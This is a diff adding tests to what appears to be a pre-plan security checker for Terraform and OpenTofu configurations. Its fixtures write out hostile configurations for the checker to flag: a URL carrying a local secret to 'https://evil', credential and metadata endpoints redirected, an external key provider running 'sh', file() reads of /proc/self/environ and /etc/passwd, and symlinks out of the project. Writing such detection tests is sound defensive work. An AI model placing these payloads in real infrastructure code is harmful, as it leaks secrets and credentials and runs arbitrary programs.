@@ -1,5 +1,5 @@
 /** Turns configurations, honest and hostile, into the pre-plan check's findings. */
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import * as fc from "fast-check";
@@ -13,7 +13,9 @@ import {
 } from "../../validators/gate/allowed";
 import { prePlanFindings } from "../../validators/gate/pre-plan";
 import { checkBeforePlan, repeatedKeys } from "../../validators/gate/pre-plan-files";
+import { loadRuntime } from "../../validators/input";
 import { InputError } from "../../validators/kernel/index";
+import { nativeAsJson } from "../../validators/source/index";
 
 const COMMIT = "0123456789abcdef0123456789abcdef01234567";
 const listed: Allowed = {
@@ -119,6 +121,36 @@ describe("what must not run", () => {
       ["data.aws_lambda_invocation.x"],
     ],
     [
+      "a function run by an ephemeral resource, which is opened while planning",
+      { ephemeral: { aws_lambda_invocation: { x: {} } } },
+      ["ephemeral.aws_lambda_invocation.x"],
+    ],
+    [
+      "a list of addresses from an address of its own",
+      { data: { aws_ip_ranges: { x: { services: ["S3"], url: "https://evil/${local.secret}" } } } },
+      ["data.aws_ip_ranges.x.url"],
+    ],
+    [
+      "OpenTofu's key provider, which can be a program",
+      { terraform: { encryption: { key_provider: { external: { x: { command: ["sh"] } } } } } },
+      ["terraform.encryption"],
+    ],
+    [
+      "another endpoint in a dynamic block",
+      { provider: { aws: { dynamic: { endpoints: { for_each: [1], content: { s3: "https://evil" } } } } } },
+      ["provider.aws.dynamic.endpoints"],
+    ],
+    [
+      "another address for the credentials themselves",
+      { provider: { aws: { ec2_metadata_service_endpoint: "https://evil" } } },
+      ["provider.aws.ec2_metadata_service_endpoint"],
+    ],
+    [
+      "another stack's state with settings that can't be read",
+      { data: { terraform_remote_state: { r: { backend: "s3", config: '${{ endpoint = "https://evil" }}' } } } },
+      ["data.terraform_remote_state.r.config"],
+    ],
+    [
       "a data source inside a check",
       { check: { c: { data: { external: { x: {} } } } } },
       ["check.c.data.external.x", "check.c.data.external.x"],
@@ -193,6 +225,11 @@ describe("what must not run", () => {
   ])("a file outside the project: %s", (value) => {
     expect(at({ output: { o: { value } } })).toEqual(["output.o.value"]);
     expect(at({ locals: { [value]: 1 } })).toHaveLength(1);
+  });
+
+  test("a file outside the project, in an object whose key looks like a comment", () => {
+    // Terraform 1.11.4 evaluates it: `//` is a comment in a block only.
+    expect(at({ locals: { a: { "//": '${file("/proc/self/environ")}' } } })).toEqual(["locals.a.//"]);
   });
 
   test("deep nesting is walked, not climbed", () => {
@@ -302,6 +339,56 @@ describe("files", () => {
     expect(checkBeforePlan([file]).map((one) => one.at)).toEqual(["data"]);
   });
 
+  test("a provider may be named in one file and used in another", () => {
+    write("versions.tf.json", '{"terraform":{"required_providers":{"github":{"source":"integrations/github"}}}}');
+    write("main.tf.json", '{"resource":{"github_repository":{"r":{}}}}');
+    const allowed = { ...ALLOWED, providers: ["hashicorp/aws", "integrations/github"] };
+    expect(checkBeforePlan([folder], allowed)).toEqual([]);
+    expect(checkBeforePlan([folder]).map((one) => one.at)).toEqual(["terraform.required_providers.github"]);
+  });
+
+  test("every file that Terraform loads is looked at, whatever it is called", () => {
+    for (const name of ["#a.tf.json", "a_override.tf.json", "a.tofu.json"]) write(name, '{"data":{"http":{"x":{}}}}');
+    for (const name of [".a.tf.json", "a.tf.json~", "#a.tf.json#"]) write(name, '{"data":{"http":{"x":{}}}}');
+    expect([...new Set(checkBeforePlan([folder]).map((one) => one.file))]).toEqual(
+      ["#a.tf.json", "a.tofu.json", "a_override.tf.json"].map((name) => join(folder, name)),
+    );
+  });
+
+  test("tests are looked at, since `terraform init` installs what they ask for", () => {
+    write("main.tf.json", "{}");
+    write(
+      "tests/a.tftest.json",
+      '{"provider":{"evil":{}},"mock_provider":{"aws":{}},"run":{"x":{"module":{"source":"evil/x/aws"}},"y":{"module":{"source":"./sub"}}}}',
+    );
+    write("sub/main.tf.json", '{"data":{"external":{"x":{}}}}');
+    expect(checkBeforePlan([folder]).map((one) => one.at)).toEqual([
+      "provider.evil",
+      "run.x.module",
+      "data.external.x",
+      "data.external.x",
+    ]);
+  });
+
+  test("a link out of the project is found, one within it is not", () => {
+    write("main.tf.json", "{}");
+    write("policy.json", "{}");
+    symlinkSync("policy.json", join(folder, "same.json"));
+    mkdirSync(join(folder, "deep"));
+    for (const [name, target] of [
+      ["environment", "/proc/self/environ"],
+      ["deep/above", ".."],
+      ["deep/far", "../.."],
+      ["later", "nothing-yet"],
+    ] as const)
+      symlinkSync(target, join(folder, name));
+    expect(
+      checkBeforePlan([folder])
+        .map((one) => one.file)
+        .sort(),
+    ).toEqual(["deep/far", "environment", "later"].map((name) => join(folder, name)));
+  });
+
   test("providers planted beside the code are found", () => {
     write("main.tf.json", "{}");
     write("terraform.d/plugins/x", "");
@@ -316,5 +403,126 @@ describe("files", () => {
     expect(() => checkBeforePlan([folder])).toThrow(InputError);
     expect(() => checkBeforePlan([folder])).toThrow(message);
     expect(() => checkBeforePlan([join(folder, "none")])).toThrow(/can't be read/);
+  });
+});
+
+describe("native syntax", () => {
+  beforeAll(loadRuntime);
+  const native = (text: string) =>
+    prePlanFindings(nativeAsJson(text, "main.tf"), "main.tf", ALLOWED).map((one) => one.at);
+
+  test("says what the JSON syntax would say", () => {
+    const text = `
+# a comment
+terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 5.0"
+    }
+  }
+}
+resource "aws_s3_bucket" "b" {
+  for_each = toset(["a", "b"])
+  bucket   = "b-\${each.key}"
+  tags     = { Name = "$\${x}", (var.key) = 1 }
+  list     = [1, true, null, local.x]
+  lifecycle {
+    prevent_destroy = true
+  }
+}
+resource "aws_s3_bucket" "c" {}
+`;
+    expect(nativeAsJson(text, "main.tf")).toEqual({
+      terraform: [{ required_providers: [{ aws: { source: "hashicorp/aws", version: "~> 5.0" } }] }],
+      resource: [
+        {
+          aws_s3_bucket: {
+            b: {
+              // biome-ignore-start lint/suspicious/noTemplateCurlyInString: Terraform's templates
+              for_each: '${toset(["a", "b"])}',
+              bucket: "b-${each.key}",
+              tags: '${{ Name = "$${x}", (var.key) = 1 }}',
+              list: [1, true, null, "${local.x}"],
+              // biome-ignore-end lint/suspicious/noTemplateCurlyInString: Terraform's templates
+              lifecycle: [{ prevent_destroy: true }],
+            },
+          },
+        },
+        { aws_s3_bucket: { c: {} } },
+      ],
+    });
+  });
+
+  test("lets an ordinary configuration through", () => {
+    expect(
+      native(`
+provider "aws" {
+  region = var.region
+}
+variable "region" {
+  description = "the region (a file (or so) says which)"
+}
+module "site" {
+  source = "./site"
+  policy = templatefile("\${path.module}/policy.json", { bucket = "b" })
+}
+data "terraform_remote_state" "other" {
+  backend = "s3"
+  config = {
+    bucket = "b"
+    key    = "k"
+  }
+}
+`),
+    ).toEqual([]);
+  });
+
+  test.each<[string, string[]]>([
+    ['data "external" "x" { program = ["sh"] }', ["data.external.x", "data.external.x"]],
+    ["data external x { }", ["data.external.x", "data.external.x"]],
+    [
+      'resource "terraform_data" "d" {\n provisioner "local-exec" {\n command = "x"\n}\n}',
+      ["resource.terraform_data.d.provisioner"],
+    ],
+    ['terraform {\n backend "http" {}\n}', ["terraform.backend.http"]],
+    ['terraform {\n required_providers {\n x = { source = "evil/x" }\n}\n}', ["terraform.required_providers.x"]],
+    [
+      'provider "aws" {\n dynamic "endpoints" {\n for_each = [1]\n content { s3 = "https://evil" }\n}\n}',
+      ["provider.aws.dynamic.endpoints"],
+    ],
+    ['module "m" { source = "evil/x/aws" }', ["module.m"]],
+    ['module "m" { source = "./${"x"}" }', ["module.m"]],
+    ['locals { x = file("/proc/self/environ") }', ["locals.x"]],
+    ['locals { x = { "//" = file("/proc/self/environ") } }', ["locals.x.//"]],
+    ['locals { x = <<-E\n  ${file("/proc/self/environ")}\n  E\n}', ["locals.x"]],
+    ['locals { x = "a ${file /* b */ ("/proc/self/environ")}" }', ["locals.x"]],
+    ['output "o" { value = [for k in ["/etc/passwd"] : file(k)] }', ["output.o.value"]],
+    ['ephemeral "aws_lambda_invocation" "x" {}', ["ephemeral.aws_lambda_invocation.x"]],
+  ])("%s", (text, expected) => {
+    expect(native(text)).toEqual(expected);
+  });
+
+  test("a label that is more than plain text is refused: Terraform would read another name", () => {
+    expect(() => nativeAsJson('ephemeral "aws_lambda_invocati\\u006fn" "x" {}', "main.tf")).toThrow(
+      /line 1: expected a label of plain text/,
+    );
+    expect(() => nativeAsJson("data {", "main.tf")).toThrow(InputError);
+  });
+
+  test("a directory of native files is looked at as a whole", () => {
+    const folder = mkdtempSync(join(tmpdir(), "tollgate-preplan-"));
+    try {
+      mkdirSync(join(folder, "m"));
+      writeFileSync(join(folder, "main.tf"), 'module "m" {\n  source = "./m"\n}\n');
+      writeFileSync(join(folder, "stray.tf.json"), "{}");
+      writeFileSync(join(folder, "m", "main.tf"), 'data "external" "x" {\n  program = ["sh"]\n}\n');
+      expect(checkBeforePlan([folder], ALLOWED, nativeAsJson).map((one) => one.file)).toEqual([
+        join(folder, "m", "main.tf"),
+        join(folder, "m", "main.tf"),
+      ]);
+    } finally {
+      rmSync(folder, { recursive: true, force: true });
+    }
   });
 });
